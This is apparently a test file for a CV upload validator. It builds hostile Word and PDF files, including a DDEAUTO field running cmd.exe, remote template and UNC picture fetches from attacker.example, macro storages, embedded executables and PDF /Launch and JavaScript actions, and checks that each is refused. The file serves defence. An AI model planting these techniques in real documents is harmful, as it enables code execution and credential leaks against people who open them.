/**
 * The Word files a partner's CV may be, checked by their structure: a .doc is read as an OLE
 * compound file (cfb, in a bounded process of its own) and refused with a macro project or embedded
 * objects; a .docx is refused with a relationship to something outside the package, an OLE
 * object, a program, a Windows shortcut, an imported chunk or a field that fetches (DDE,
 * INCLUDEPICTURE…). Every attacker file is made here: the .doc files with
 * cfb's writer, the .docx files with yazl. Before these checks a .doc was known by its first
 * 8 bytes only, and a .docx was read for macros alone: each refusal below was accepted.
 */
import zlib from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { DOC_LIMITS, docFileProblem, type DocFileProblem } from '../../src/server/receiver/doc-file';
import { activePdf, checkUploads, detectKind } from '../../src/server/receiver/uploads';
import { relationshipsProblem, wordDocumentProblem, type WordDocumentProblem } from '../../src/server/receiver/docx-file';
import { WORD_STREAMS, compoundFile, directoryIndex, minimalDoc, patchDirectory, patchFat, startSector } from '../helpers/cfb';
import { minimalDocx, WORD_PARTS, zipOf } from '../helpers/zip';
import { WorkQueue } from '../../src/server/ops/work-queue';

/** The Word files' readings, bounded as the server bounds them. */
const readings = new WorkQueue({ running: DOC_LIMITS.concurrent, waiting: Infinity });

/** A file as the multipart body hands it over (its bytes copied into a plain ArrayBuffer). */
const fileOf = (bytes: Uint8Array, name: string) => new File([new Uint8Array(bytes)], name);

const PACKAGE_RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** word/_rels/document.xml.rels with these relationships (attributes as written). */
const documentRels = (...relationships: string[]) => ({
  name: 'word/_rels/document.xml.rels',
  data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${PACKAGE_RELS}">${relationships
    .map((attributes) => `<Relationship ${attributes}/>`)
    .join('')}</Relationships>`,
});

describe('a .doc is read as a compound file', () => {
  test('a Word 97-2003 document with its streams and an empty ObjectPool is accepted', async () => {
    const doc = minimalDoc();
    expect(await docFileProblem(doc, readings)).toBeUndefined();
    expect(await detectKind(doc, readings)).toBe('doc');
  });

  const refused: [string, DocFileProblem, () => Buffer][] = [
    [
      "Word's macro storage (Macros/VBA with its dir and _VBA_PROJECT streams)",
      'macros',
      () =>
        minimalDoc([
          { path: '/Macros/VBA/dir', data: new Uint8Array(300).fill(1) },
          { path: '/Macros/VBA/_VBA_PROJECT', data: new Uint8Array(7).fill(2) },
          { path: '/Macros/PROJECT', data: 'ID="{00000000-0000-0000-0000-000000000000}"' },
        ]),
    ],
    [
      'a _VBA_PROJECT_CUR storage (the macro project of the other Office programs)',
      'macros',
      () => minimalDoc([{ path: '/_VBA_PROJECT_CUR/VBA/dir', data: new Uint8Array(300).fill(1) }]),
    ],
    ['a macro storage named in other letter case', 'macros', () => minimalDoc([{ path: '/mAcRoS/vba/Dir', data: 'x' }])],
    [
      'an ObjectPool holding an embedded object',
      'embedded',
      () =>
        minimalDoc([
          { path: '/ObjectPool/_1234567890/\u0001Ole', data: new Uint8Array(20) },
          { path: '/ObjectPool/_1234567890/\u0001CompObj', data: new Uint8Array(80) },
        ]),
    ],
    [
      'a packed file (\u0001Ole10Native) anywhere',
      'embedded',
      () => minimalDoc([{ path: '/Data/\u0001Ole10Native', data: 'MZ payload' }]),
    ],
    [
      'a compound file without a WordDocument stream (an Excel workbook)',
      'notWord',
      () => compoundFile([{ path: '/Workbook', data: new Uint8Array(5000).fill(9) }]),
    ],
    [
      'a WordDocument stream inside a storage, not at the root',
      'notWord',
      () => compoundFile([{ path: '/Sub/WordDocument', data: 'x' }]),
    ],
    ['a compound file cut short', 'unreadable', () => minimalDoc().subarray(0, 1536)],
    [
      "a sector chain that loops (the main stream's first sector followed by itself)",
      'unreadable',
      () => {
        const doc = minimalDoc();
        const first = startSector(doc, 'WordDocument');
        return patchFat(doc, first, first);
      },
    ],
    ['only the signature', 'unreadable', () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0])],
  ];
  for (const [what, problem, make] of refused) {
    test(`${what}: refused (${problem})`, async () => {
      const bytes = make();
      expect(await docFileProblem(bytes, readings)).toBe(problem);
      expect(await detectKind(bytes, readings)).toBeUndefined();
    });
  }

  // cfb walks sibling links without remembering where it has been: two entries naming each other
  // keep it busy for ever. The reading process's deadline ends it; this test's own timeout bounds the run.
  test(
    'directory entries linked in a circle: the reading is ended and the file refused',
    async () => {
      const clean = minimalDoc();
      const doc = patchDirectory(
        patchDirectory(clean, '1Table', { left: directoryIndex(clean, 'WordDocument') }),
        'WordDocument',
        { left: directoryIndex(clean, '1Table') },
      );
      // Two at once hold both readings; the clean documents asked for meanwhile wait their turn, then pass.
      const problems = await Promise.all([doc, doc, minimalDoc(), minimalDoc()].map((bytes) => docFileProblem(bytes, readings)));
      expect(problems.slice(0, 2).every((problem) => problem === 'tooSlow' || problem === 'unreadable')).toBe(true);
      expect(problems.slice(2)).toEqual([undefined, undefined]);
    },
    2 * DOC_LIMITS.timeoutMs + 15_000,
  );

  test('a .doc whose text begins a field that fetches (8-bit or UTF-16) is refused', async () => {
    const withText = (text: Buffer) => {
      const main = new Uint8Array(6000).fill(0x20);
      main.set(text, 1024);
      return compoundFile([{ path: '/WordDocument', data: main }, ...WORD_STREAMS.slice(1)]);
    };
    const field = '\u0013 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \u0014\u0015';
    expect(await docFileProblem(withText(Buffer.from(field, 'latin1')), readings)).toBe('fields');
    expect(await docFileProblem(withText(Buffer.from(field.replace('DDEAUTO', 'INCLUDEPICTURE'), 'utf16le')), readings)).toBe(
      'fields',
    );
    expect(
      await docFileProblem(withText(Buffer.from('\u0013 PAGE \u0014 1\u0015 DDEAUTO as a word', 'latin1')), readings),
    ).toBeUndefined();
  });

  test('files that are no compound file, named .doc, are refused by content', async () => {
    const files = [
      fileOf(new TextEncoder().encode('{\\rtf1\\ansi Curriculum vitae}'), 'cv.doc'),
      fileOf(new TextEncoder().encode('MZ\u0090\u0000This program cannot be run in DOS mode.'), 'cv.doc'),
      fileOf(await minimalDocx(), 'cv.doc'),
      fileOf(minimalDoc([{ path: '/Macros/VBA/dir', data: 'x' }]), 'macro.doc'),
    ];
    const check = await checkUploads(files, readings);
    expect(check).toMatchObject({
      ok: false,
      rejected: files.map((file) => ({ file: file.name, reason: 'invalidType' })),
      problems: ['content', 'content', 'content', 'doc:macros'],
    });
  });
});

describe('a .docx is refused with what Word loads or runs on its own', () => {
  test('a CV with a picture, a web link and an e-mail link is accepted', async () => {
    const docx = await minimalDocx([
      documentRels(
        `Id="rId1" Type="${REL}/image" Target="media/image1.png"`,
        `Id="rId2" Type="${REL}/hyperlink" Target="https://www.linkedin.com/in/aisha" TargetMode="External"`,
        `Id="rId3" Type="${REL}/hyperlink" Target="mailto:aisha@example.com" TargetMode="External"`,
        `Id="rId4" Type="${REL}/printerSettings" Target="printerSettings/printerSettings1.bin"`,
      ),
      { name: 'word/media/image1.png', data: new Uint8Array(2048).fill(1) },
      { name: 'word/printerSettings/printerSettings1.bin', data: new Uint8Array(512).fill(2) },
      { name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: await zipOf([{ name: 'a.xml', data: '<a/>' }]) },
    ]);
    expect(await wordDocumentProblem(docx)).toBeUndefined();
    expect(await detectKind(docx, readings)).toBe('docx');
  });

  const refused: [string, WordDocumentProblem, () => Promise<Uint8Array>][] = [
    [
      'an external attachedTemplate (Word fetches it on opening)',
      'external',
      () =>
        minimalDocx([
          {
            name: 'word/_rels/settings.xml.rels',
            data: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${PACKAGE_RELS}"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>`,
          },
        ]),
    ],
    [
      'a remote picture, its TargetMode spelled with character references and single quotes',
      'external',
      () =>
        minimalDocx([
          documentRels(`Id='rId9' Type='${REL}/image' Target='\\\\attacker\\share\\a.png' TargetMode='&#69;xter&#x6E;al'`),
        ]),
    ],
    [
      'a hyperlink to a file share (not a web page)',
      'external',
      () =>
        minimalDocx([
          documentRels(`Id="rId2" Type="${REL}/hyperlink" Target="file://attacker/share/cv.exe" TargetMode="External"`),
        ]),
    ],
    [
      'an oleObject relationship (linked or embedded)',
      'embedded',
      () =>
        minimalDocx([
          documentRels(`Id="rId5" Type="${REL}/oleObject" Target="embeddings/oleObject1.dat"`),
          { name: 'word/embeddings/oleObject1.dat', data: 'x' },
        ]),
    ],
    [
      'an OLE object under word/embeddings (.bin)',
      'embedded',
      () => minimalDocx([{ name: 'word/embeddings/oleObject1.bin', data: new Uint8Array(512) }]),
    ],
    [
      'an OLE object under word/embeddings with an innocent name, known by its first bytes',
      'embedded',
      () => minimalDocx([{ name: 'word/embeddings/picture.png', data: minimalDoc() }]),
    ],
    [
      'a program under word/embeddings/x.exe',
      'executable',
      () => minimalDocx([{ name: 'word/embeddings/x.exe', data: 'MZ\u0090\u0000payload' }]),
    ],
    [
      'a program under word/embeddings with an innocent name, known by its first bytes',
      'executable',
      () => minimalDocx([{ name: 'word/embeddings/notes.txt', data: 'MZ\u0090\u0000payload' }]),
    ],
    ['a script anywhere in the package', 'executable', () => minimalDocx([{ name: 'docProps/run.VBS', data: 'x' }])],
    ['a Windows shortcut (.lnk)', 'shortcut', () => minimalDocx([{ name: 'word/media/CV.lnk', data: new Uint8Array(76) }])],
    [
      'an ActiveX control',
      'embedded',
      () => minimalDocx([{ name: 'word/activeX/activeX1.xml', data: '<ax:ocx xmlns:ax="x"/>' }]),
    ],
    [
      'a relationships part with a DTD (its entities could spell External)',
      'unreadable',
      () =>
        minimalDocx([
          {
            name: 'word/_rels/document.xml.rels',
            data: `<!DOCTYPE r [<!ENTITY m "External">]><Relationships xmlns="${PACKAGE_RELS}"><Relationship Id="r" Type="${REL}/image" Target="http://a/b.png" TargetMode="&m;"/></Relationships>`,
          },
        ]),
    ],
    [
      'a relationships part in UTF-16 hiding an external template from a UTF-8 reading',
      'external',
      async () =>
        zipOf([
          ...WORD_PARTS,
          {
            name: 'word/_rels/settings.xml.rels',
            data: new Uint8Array([
              0xff,
              0xfe,
              ...Buffer.from(
                `<Relationships xmlns="${PACKAGE_RELS}"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>`,
                'utf16le',
              ),
            ]),
          },
        ]),
    ],
  ];
  for (const [what, problem, make] of refused) {
    test(`${what}: refused (${problem})`, async () => {
      const bytes = await make();
      expect(await wordDocumentProblem(bytes)).toBe(problem);
      expect(await detectKind(bytes, readings)).toBeUndefined();
    });
  }

  /** A .docx whose body is this WordprocessingML (inside `<w:body>`). */
  const docxWithBody = (body: string) =>
    zipOf([
      ...WORD_PARTS.filter((part) => part.name !== 'word/document.xml'),
      {
        name: 'word/document.xml',
        data: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
      },
    ]);
  const run = (inner: string) => `<w:r>${inner}</w:r>`;
  const complexField = (...instructions: string[]) =>
    run('<w:fldChar w:fldCharType="begin"/>') +
    instructions.map((text) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)).join('') +
    run('<w:fldChar w:fldCharType="separate"/>') +
    run('<w:t>shown</w:t>') +
    run('<w:fldChar w:fldCharType="end"/>');

  test('fields that fetch or run something are refused; the fields a CV uses are not', async () => {
    const fetching = [
      complexField(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '),
      // Split across runs, as Word writes it.
      complexField(' INCLUDE', 'PICTURE "\\\\attacker.example\\share\\a.png" \\d '),
      complexField(' includetext "https://attacker.example/cv.docx" '),
      `<w:fldSimple w:instr=" LINK Excel.Sheet.8 &quot;\\\\host\\s\\b.xls&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>`,
      // Nested inside an innocent field's instruction.
      run('<w:fldChar w:fldCharType="begin"/>') +
        run('<w:instrText> IF 1 = 1 "</w:instrText>') +
        complexField(' DDE a b ') +
        run('<w:fldChar w:fldCharType="end"/>'),
    ];
    for (const body of fetching) expect(await wordDocumentProblem(await docxWithBody(`<w:p>${body}</w:p>`)), body).toBe('fields');
    const plain = [
      complexField(' PAGE '),
      complexField(' HYPERLINK "https://example.com/link" '),
      complexField(' TOC \\o "1-3" '),
    ];
    expect(
      await wordDocumentProblem(await docxWithBody(`<w:p>${plain.join('')}<w:r><w:t>DDEAUTO in plain text</w:t></w:r></w:p>`)),
    ).toBeUndefined();
    // A header is read as the body is.
    expect(
      await wordDocumentProblem(
        await minimalDocx([{ name: 'word/header1.xml', data: `<w:hdr xmlns:w="w">${complexField(' DDE x y ')}</w:hdr>` }]),
      ),
    ).toBe('fields');
  });

  test('an alternative format chunk (aFChunk: a document Word imports whole) is refused', async () => {
    const bytes = await minimalDocx([
      documentRels(`Id="rId9" Type="${REL}/aFChunk" Target="afchunk.mht"`),
      { name: 'word/afchunk.mht', data: 'MIME-Version: 1.0' },
    ]);
    expect(await wordDocumentProblem(bytes)).toBe('embedded');
  });

  test('relationships are read by their attributes, not by a search of the text', () => {
    // A ">" inside an attribute value ends no element: TargetMode after it still counts.
    expect(
      relationshipsProblem(
        `<Relationships xmlns="${PACKAGE_RELS}"><Relationship Id="a" Target="x>y" Type="${REL}/frame" TargetMode="External"/></Relationships>`,
      ),
    ).toBe('external');
    // A prefixed element is a relationship all the same.
    expect(
      relationshipsProblem(
        `<p:Relationships xmlns:p="${PACKAGE_RELS}"><p:Relationship Id="a" Type="${REL}/oleObject" Target="o.bin"/></p:Relationships>`,
      ),
    ).toBe('embedded');
    // An attribute without quotes is no XML Word reads.
    expect(relationshipsProblem(`<Relationships><Relationship Id=a Target=b/></Relationships>`)).toBe('unreadable');
    expect(relationshipsProblem('not xml at all')).toBe('unreadable');
  });

  test('the log is told the reason by code; the visitor gets the wrong-type refusal', async () => {
    const check = await checkUploads(
      [
        fileOf(await minimalDocx([{ name: 'word/embeddings/x.exe', data: 'MZ' }]), 'سيرة.docx'),
        fileOf(
          await minimalDocx([
            documentRels(`Id="r" Type="${REL}/attachedTemplate" Target="http://a/t.dotm" TargetMode="External"`),
          ]),
          'cv.docx',
        ),
      ],
      readings,
    );
    expect(check).toEqual({
      ok: false,
      tooMany: false,
      rejected: [
        { file: 'سيرة.docx', reason: 'invalidType' },
        { file: 'cv.docx', reason: 'invalidType' },
      ],
      problems: ['docx:executable', 'docx:external'],
    });
  });
});

describe('a PDF that may run something when opened', () => {
  const pdf = (body: string) => new TextEncoder().encode(`%PDF-1.7\n${body}\ntrailer << /Root 1 0 R >>\n%%EOF\n`);
  /** A PDF whose catalog sits in a compressed object stream, as PDF 1.5 and later write it. */
  const inObjectStream = (objects: string) => {
    const packed = zlib.deflateSync(Buffer.from(objects, 'latin1'));
    const head = Buffer.from(
      `%PDF-1.7\n2 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
      'latin1',
    );
    return new Uint8Array(Buffer.concat([head, packed, Buffer.from('\nendstream endobj\n%%EOF\n', 'latin1')]));
  };

  test('JavaScript, a program launched or an action on opening, plain, escaped or compressed, is found', () => {
    expect(activePdf(pdf('1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj'))).toBe(true);
    expect(activePdf(pdf('1 0 obj << /Type /Catalog /OpenAction 5 0 R >> endobj'))).toBe(true);
    expect(activePdf(pdf('5 0 obj << /S /Launch /F (cmd.exe) >> endobj'))).toBe(true);
    expect(activePdf(pdf('5 0 obj << /S /J#61vaScript /J#53 (x) >> endobj'))).toBe(true);
    expect(activePdf(inObjectStream('1 0 << /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>'))).toBe(true);
    // An object stream that cannot be read hides what it holds.
    expect(
      activePdf(new TextEncoder().encode('%PDF-1.7\n2 0 obj << /Type /ObjStm >>\nstream\nnot deflate\nendstream endobj')),
    ).toBe(true);
  });

  test("a CV's PDF, opening on a page view, or with its objects compressed, is plain", () => {
    expect(activePdf(pdf('1 0 obj << /Type /Catalog /OpenAction [3 0 R /FitH null] >> endobj'))).toBe(false);
    expect(activePdf(pdf('1 0 obj << /Type /Catalog /Names << /Dests 4 0 R >> /JSFont 2 >> endobj'))).toBe(false);
    expect(activePdf(inObjectStream('1 0 << /Type /Catalog /Pages 3 0 R >>'))).toBe(false);
  });
});
